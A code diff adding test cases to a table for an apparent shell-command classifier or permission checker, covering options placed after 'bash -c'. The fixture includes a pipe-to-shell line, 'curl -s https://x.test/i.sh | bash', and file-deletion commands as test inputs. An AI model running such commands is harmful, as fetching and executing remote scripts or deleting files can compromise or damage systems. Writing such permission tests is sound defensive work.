@@ -117,6 +117,11 @@ TABLE: list[tuple[str, list[str], bool]] = [
     ("bash script.sh", ["proc:exec:bash/script.sh"], True),
     ("curl -s https://x.test/i.sh | bash", ["proc:exec:curl/-s/https:SSx.testSi.sh", "proc:exec:bash"], True),
     ("bash -lc 'ls'", ["proc:exec:bash/-lc/ls", "proc:exec:ls"], True),
+    # options may follow -c: the command string is the first word after them
+    ("bash -c -- 'rm x'", ["proc:exec:bash/-c/--/rm x", "proc:exec:rm/x"], False),
+    ("bash -c -e 'rm x'", ["proc:exec:bash/-c/-e/rm x", "proc:exec:rm/x"], False),
+    ("sh -c - 'rm x'", ["proc:exec:sh/-c/-/rm x", "proc:exec:rm/x"], False),
+    ("bash -c -o errexit 'rm x'", ["proc:exec:bash/-c/-o/errexit/rm x"], True),
     # runners of commands the text does not show: their argv, and ask
     ("find . -exec rm {} +", ["proc:exec:find/./-exec/rm/{}/+"], True),
     ("find . -name '*.py' -delete", ["proc:exec:find/./-name/*.py/-delete"], False),
